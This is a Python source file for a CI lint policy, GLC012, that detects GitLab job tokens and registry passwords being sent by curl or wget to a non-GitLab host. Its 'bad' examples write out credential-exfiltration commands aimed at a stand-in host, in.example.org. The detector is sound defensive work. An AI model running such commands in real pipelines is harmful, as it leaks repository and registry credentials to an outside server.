from collections.abc import Iterator

from aurora_devops import Finding, Script, bad, good, policy
from aurora_devops.core.lazy import regex

_TOKEN = regex(
    r"\$\{?(?P<name>CI_(?:JOB_TOKEN|JOB_JWT(?:_V[12])?|REGISTRY_PASSWORD|DEPLOY_PASSWORD"
    r"|DEPENDENCY_PROXY_PASSWORD|BUILD_TOKEN))\b"
)
_HOST = regex(r"https?://(?:[^\s/@'\"]*@)?(?P<host>[a-z0-9][a-z0-9.-]*\.[a-z]{2,})(?P<path>[^\s'\"]*)")
_SENDERS = frozenset({"curl", "wget", "http", "https"})


@policy(
    "GLC012",
    severity="warning",
    category="security",
    examples=[
        bad('send:\n  script:\n    - curl --data "«$CI_JOB_TOKEN»" https://in.example.org/hook\n'),
        bad(
            """\
            send:
              script:
                - 'wget --header="X-Token: «${CI_REGISTRY_PASSWORD}»" https://in.example.org'
            """
        ),
        good(
            'fetch:\n  script:\n    - curl --header "JOB-TOKEN: $CI_JOB_TOKEN" ${CI_API_V4_URL}/projects\n',
            because="the token is sent to the GitLab instance that issued it",
        ),
        good(
            'fetch:\n  script:\n    - curl --header "JOB-TOKEN: $CI_JOB_TOKEN" https://git.example.org/api/v4/projects\n',
            because="the path is that of the API of GitLab",
        ),
    ],
)
def leaked_token(script: Script) -> Iterator[Finding]:
    """A credential of the job is sent to a server that is not the GitLab instance.

    With the job token the receiver can read the repository, its packages and images for as long as the job runs.
    Send such tokens only to `CI_API_V4_URL`; for another service create a credential of its own.

    https://docs.gitlab.com/ci/jobs/ci_job_token/
    """
    if "CI_" not in script.text or script.parsed is None:
        return
    for command in script.parsed.commands:
        program = command.unwrapped
        if program.name not in _SENDERS:
            continue
        hosts = [found for word in program.arguments if (found := _HOST.search(word.text)) is not None]
        if not hosts or any(_is_gitlab(found["host"], found["path"]) for found in hosts):
            continue
        for word in program.arguments:
            for expansion in word.expansions:
                match = _TOKEN.match(expansion.raw)
                if match is not None:
                    message = (
                        f"'{match['name']}' is sent to {hosts[0]['host']}, which is not the GitLab instance"
                    )
                    yield Finding(at=script.place(expansion.start, expansion.end), message=message)


def _is_gitlab(host: str, path: str) -> bool:
    return "gitlab" in host or path.startswith(("/api/v4", "/api/graphql"))
